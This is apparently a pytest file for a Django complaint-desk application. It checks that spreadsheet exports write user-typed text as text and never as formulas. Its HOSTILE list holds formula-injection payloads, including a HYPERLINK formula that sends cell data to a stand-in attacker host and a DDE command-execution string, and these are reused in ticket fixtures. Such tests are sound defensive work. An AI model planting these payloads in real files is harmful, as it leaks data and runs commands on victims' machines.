"""Issue 13 §1: formula injection. Text typed by anyone (an anonymous portal filing too) is
written into every .xlsx export as text, never as a formula or an error value; every export
goes through complaintdesk/core/xlsx.py (a module that writes xlsx by itself fails a test
here). See docs/security.md §1."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

import complaintdesk
from complaintdesk.accounts.models import User
from complaintdesk.core.xlsx import MAX_CELL_CHARS, XlsxSheet, sheet_title
from complaintdesk.sla.models import ClockRule, LedgerEntry, Policy, TicketClock
from complaintdesk.sla.services.scan import sla_scan
from complaintdesk.tickets.models import Ticket
from tests.test_portal import file_ticket

PACKAGE = Path(complaintdesk.__file__).resolve().parent

# Text that a spreadsheet would run, link or show as an error if it were not written as text.
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://attacker.invalid/?d="&A2,"Details")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "#N/A",
    "#DIV/0!",
]


def workbook_of(data: bytes):
    return load_workbook(io.BytesIO(data))


def assert_no_formula(data: bytes) -> list:
    """Every cell of every sheet: no formula, no error value; returns the rows (values)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, f"{name} has a formula"
                assert 't="e"' not in xml, f"{name} has an error value"
    rows = []
    for ws in workbook_of(data).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (cell.coordinate, cell.value, cell.data_type)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
            rows.append([c.value for c in row])
    return rows


def cells_with(data: bytes, text: str):
    return [c for ws in workbook_of(data).worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str) and text in c.value]


# -- the helper ------------------------------------------------------------------------------

def test_every_string_is_written_as_text():
    sheet = XlsxSheet("t")
    sheet.header(["text"])
    for text in HOSTILE:
        sheet.row([text])
    out = io.BytesIO()
    sheet.save(out)
    rows = assert_no_formula(out.getvalue())
    # XML turns a CR into a line feed on reading; the text is otherwise exactly what was typed.
    assert [r[0] for r in rows[1:]] == [t.replace("\r", "\n") for t in HOSTILE]
    ws = workbook_of(out.getvalue()).active
    for (cell,), text in zip(ws.iter_rows(min_row=2), HOSTILE, strict=True):
        # Stays text even when someone edits the cell and presses Enter (Excel's own '…).
        assert cell.quotePrefix is (not text.startswith("#")), text
    assert ws["A1"].font.bold and not ws["A1"].quotePrefix


def test_hostile_cells_among_plain_ones_in_one_row():
    # openpyxl reuses one cell object along a row; a forced string cell must not leak its type
    # or style into the plain values after it, nor take theirs.
    values = ["#N/A", "plain", "=1+1", 5, "-x", None, "more", "#REF!", dt.date(2026, 1, 2)]
    sheet = XlsxSheet("t")
    sheet.row(values)
    sheet.row(["=A1", 7])
    out = io.BytesIO()
    sheet.save(out)
    rows = assert_no_formula(out.getvalue())
    assert rows[0] == values[:-1] + [dt.datetime(2026, 1, 2)] and rows[1][:2] == ["=A1", 7]
    ws = workbook_of(out.getvalue()).active
    assert [c.quotePrefix for c in ws[1]] == [False, False, True, False, True, False, False, False, False]
    assert [c.data_type for c in ws[1]] == ["s", "s", "s", "n", "s", "n", "s", "s", "d"]


def test_numbers_and_dates_keep_their_type_and_odd_text_is_made_safe():
    aware = dt.datetime(2026, 12, 4, 2, 30, tzinfo=dt.UTC)
    sheet = XlsxSheet("a/b[c]:d*e?f\\g with a very long name indeed")
    sheet.row([7, 2.5, True, None, aware, dt.date(2026, 1, 2), "13800138000", "a\x00b\x1bc",
               "x" * (MAX_CELL_CHARS + 10), "一般文字"])
    out = io.BytesIO()
    sheet.save(out)
    book = workbook_of(out.getvalue())
    assert book.sheetnames == ["a_b_c__d_e_f_g with a very long"]
    values = [c.value for c in next(book.active.iter_rows())]
    assert values[:4] == [7, 2.5, True, None]
    # Local wall-clock time (Asia/Shanghai): Excel has no time zones.
    assert values[4] == dt.datetime(2026, 12, 4, 10, 30)
    assert values[5] == dt.datetime(2026, 1, 2)
    assert values[6] == "13800138000"  # a phone stays text (not 1.38E+10)
    assert values[7] == "a\ufffdb\ufffdc"  # XML cannot carry these; the export does not fail
    assert len(values[8]) == MAX_CELL_CHARS and values[8].endswith("…")
    assert values[9] == "一般文字"
    assert sheet_title("") == "Sheet" and sheet_title("'x'") == "x"


# -- both exports, from an anonymous portal filing on ---------------------------------------

@pytest.fixture
def hostile_tickets(client, org, make_ticket):
    """An anonymous portal filing whose description (and so its title) is a formula, and
    staff-registered tickets with the other prefixes; each with a breached clock in the
    complaint ledger."""
    portal, _code = file_ticket(client, description=HOSTILE[1] + " 十月话费多扣了58元")
    assert portal.title.startswith("=HYPERLINK(")
    tickets = [portal] + [
        make_ticket(title=title, description="\t=1+1 " + title)
        for title in ("+1+1", "-2+3", "@SUM(A1:A9)", "#N/A", "=cmd|' /C calc'!A0")
    ]
    now = timezone.now()
    policy = Policy.objects.create(name="测试策略", name_en="Test policy")
    rule = ClockRule.objects.create(policy=policy, clock="handle", amount=12, unit="working_hours",
                                    ladder=[{"after_minutes": 0, "notify": "supervisor"}])
    TicketClock.objects.all().delete()
    for ticket in tickets:
        TicketClock.objects.create(ticket=ticket, clock="handle", cycle=0, rule=rule, state="running",
                                   started_at=now - dt.timedelta(hours=13),
                                   due_at=now - dt.timedelta(minutes=1))
    sla_scan(now=now)
    assert LedgerEntry.objects.filter(ticket__in=tickets).count() == len(tickets)
    return [Ticket.objects.get(pk=t.pk) for t in tickets]


def _check(data: bytes, tickets):
    assert_no_formula(data)
    for ticket in tickets:
        found = cells_with(data, ticket.title)
        assert found, f"{ticket.title!r} is not in the export"
        assert all(c.data_type == "s" for c in found)


def test_worklist_export_writes_hostile_titles_as_text(client, org, hostile_tickets):
    client.force_login(org["users"]["supervisor"])
    response = client.get("/work/all/export.xlsx")
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    _check(data, hostile_tickets)
    title_cell = cells_with(data, "=HYPERLINK(")[0]
    assert title_cell.value == hostile_tickets[0].title and title_cell.quotePrefix


def test_ledger_export_writes_hostile_titles_and_summaries_as_text(org, hostile_tickets, api):
    response = api(org["users"]["supervisor"]).get("/ledger.xlsx")
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    _check(data, hostile_tickets)
    # The summary column starts with the title too.
    summaries = [c for c in cells_with(data, "=cmd|") if c.column == 11]
    assert summaries and summaries[0].value.startswith("=cmd|") and summaries[0].quotePrefix


def test_admin_ledger_export_action_writes_them_as_text(client, org, hostile_tickets):
    root = User.objects.create_superuser(username="root", password="pw-for-tests-1", role="admin",
                                         org_unit=org["province"])
    client.force_login(root)
    response = client.post(reverse("admin:sla_ledgerentry_changelist"), {
        "action": "export_xlsx", "_selected_action": list(LedgerEntry.objects.values_list("pk", flat=True)),
    })
    assert response.status_code == 200
    _check(b"".join(response.streaming_content), hostile_tickets)


# -- present and future: every export goes through the helper ---------------------------------

HELPER = PACKAGE / "core" / "xlsx.py"
# Writing spreadsheets by hand: openpyxl itself, another xlsx library, pandas' writer.
DIRECT = re.compile(r"\bopenpyxl\b|\bxlsxwriter\b|\bpyexcelerate\b|\bpyexcel\b|\.to_excel\(|\bExcelWriter\b")


def direct_xlsx(source: str) -> list[str]:
    return [f"line {source.count(chr(10), 0, m.start()) + 1}: {m.group(0)}" for m in DIRECT.finditer(source)]


def test_the_rule_finds_a_module_that_writes_xlsx_itself():
    assert direct_xlsx("from openpyxl import Workbook\n")
    assert direct_xlsx("import xlsxwriter")
    assert direct_xlsx("x = 1\n    frame.to_excel(out)") == ["line 2: .to_excel("]
    assert direct_xlsx("importlib.import_module('openpyxl')")
    assert not direct_xlsx("from complaintdesk.core.xlsx import XlsxSheet\nsheet.row(values)")


def test_no_module_but_core_xlsx_touches_openpyxl():
    offenders = []
    for path in sorted(PACKAGE.rglob("*.py")):
        if path == HELPER:
            continue
        offenders += [f"{path.relative_to(PACKAGE)} {hit}" for hit in direct_xlsx(path.read_text())]
    assert not offenders, (
        "write (and read) .xlsx only through complaintdesk/core/xlsx.py, which writes every text "
        "as text (docs/security.md §1):\n" + "\n".join(offenders))
